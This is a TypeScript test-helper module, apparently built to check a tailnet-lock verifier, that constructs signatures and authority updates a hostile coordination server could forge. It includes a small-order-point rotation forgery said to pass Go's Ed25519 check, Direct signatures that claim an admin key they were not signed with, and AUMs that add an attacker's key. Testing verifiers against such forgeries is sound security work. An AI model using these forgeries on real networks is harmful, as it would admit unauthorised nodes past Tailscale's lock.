import { type SigningKey, generateSigningKey, sign, verifyStandard } from '../src/crypto/ed25519.js';
import { type AUM, AUMKind, aumHash } from '../src/model/aum.js';
import {
  type NodeKeySignature,
  SigKind,
  decodeNodeKeySignature,
  encodeNodeKeySignature,
  nodeKeySignatureSigHash,
} from '../src/model/nks.js';
import { signAUM } from '../src/authority/aum-signing.js';
import { encodeBase64 } from '../src/wire/base64.js';
import { hashFromBase32, hashToBase32 } from '../src/wire/base32.js';
import { formatNodeKey, nodeKeyToBinary } from '../src/wire/keytext.js';

/*
 * What a hostile coordination server can make without any admin's private key, and the one
 * signature Tailscale's own tooling makes that lets it forge more (see zeroWrappedDirect).
 */

/** A fresh random node key, as `nodekey:<hex>`. */
export function newNodeKey(): { bytes: Uint8Array; text: string } {
  const bytes = generateSigningKey().publicKey;
  return { bytes, text: formatNodeKey(bytes) };
}

const b64 = (nks: NodeKeySignature): string => encodeBase64(encodeNodeKeySignature(nks));

/**
 * What `tailscale lock sign <nodekey>` writes when the node has no rotation key: a Direct
 * signature whose wrapping key is 32 zero bytes (a small-order point). tlock refuses to make
 * one (WEAK_KEY) but accepts it when verifying, as every node must agree on signatures.
 */
export function zeroWrappedDirect(admin: SigningKey, nodeKey: Uint8Array): string {
  const nks: NodeKeySignature = {
    sigKind: SigKind.Direct,
    pubkey: nodeKeyToBinary(nodeKey),
    keyID: admin.publicKey,
    wrappingPubkey: new Uint8Array(32),
  };
  nks.signature = sign(admin, nodeKeySignatureSigHash(nks));
  return b64(nks);
}

/**
 * A rotation of a zero-wrapped Direct signature to a node key of the attacker's choosing, made
 * without a private key: S = 0 and R a small-order point, which Go's crypto/ed25519 (Tailscale's
 * rotation check) accepts for that wrapping key about one time in four; so try node keys.
 */
export function forgedZeroRotation(victimSignature: string): { key: string; signature: string } {
  const nested = decodeNodeKeySignature(Buffer.from(victimSignature, 'base64'));
  const zero = new Uint8Array(32);
  for (let i = 0; i < 256; i++) {
    const nodeKey = newNodeKey();
    const forged: NodeKeySignature = {
      sigKind: SigKind.Rotation,
      pubkey: nodeKeyToBinary(nodeKey.bytes),
      nested,
    };
    const message = nodeKeySignatureSigHash(forged);
    for (const r of SMALL_ORDER_R) {
      const signature = new Uint8Array(64);
      signature.set(Buffer.from(r, 'hex'));
      if (verifyStandard(zero, message, signature)) {
        forged.signature = signature;
        return { key: nodeKey.text, signature: b64(forged) };
      }
    }
  }
  throw new Error('no forged rotation found in 256 node keys (expected one in a few)');
}

/** Small-order points of edwards25519, as R values for the forgery. */
const SMALL_ORDER_R = [
  '0100000000000000000000000000000000000000000000000000000000000000',
  'ecffffffffffffffffffffffffffffffffffffffffffffffffffffffffffff7f',
  '0000000000000000000000000000000000000000000000000000000000000000',
  '0000000000000000000000000000000000000000000000000000000000000080',
  '26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc05',
  '26e8958fc2b227b045c3f489f2ef98f0d5dfac05d3c63339b13802886d53fc85',
  'c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac037a',
  'c7176a703d4dd84fba3c0b760d10670f2a2053fa2c39ccc64ec7fd7792ac03fa',
];

/** A Direct signature that names a trusted admin key but is signed by the attacker's. */
export function forgedDirect(claimed: Uint8Array, nodeKey: Uint8Array): string {
  const attacker = generateSigningKey();
  const nks: NodeKeySignature = { sigKind: SigKind.Direct, pubkey: nodeKeyToBinary(nodeKey), keyID: claimed };
  nks.signature = sign(attacker, nodeKeySignatureSigHash(nks));
  return b64(nks);
}

/** A Direct signature by `signer` (any key), for a peer the attacker made up. */
export function directBy(signer: SigningKey, nodeKey: Uint8Array): string {
  const nks: NodeKeySignature = {
    sigKind: SigKind.Direct,
    pubkey: nodeKeyToBinary(nodeKey),
    keyID: signer.publicKey,
  };
  nks.signature = sign(signer, nodeKeySignatureSigHash(nks));
  return b64(nks);
}

/** An AUM on top of `head` that trusts the attacker's key, signed by that (unknown) key. */
export function aumByUnknownKey(head: string, attacker: SigningKey): { aum: AUM; hash: string } {
  const aum = signAUM(
    {
      messageKind: AUMKind.AddKey,
      prevAUMHash: hashFromBase32(head),
      key: { kind: 1, votes: 1, public: attacker.publicKey },
    },
    attacker,
  );
  return { aum, hash: hashToBase32(aumHash(aum)) };
}
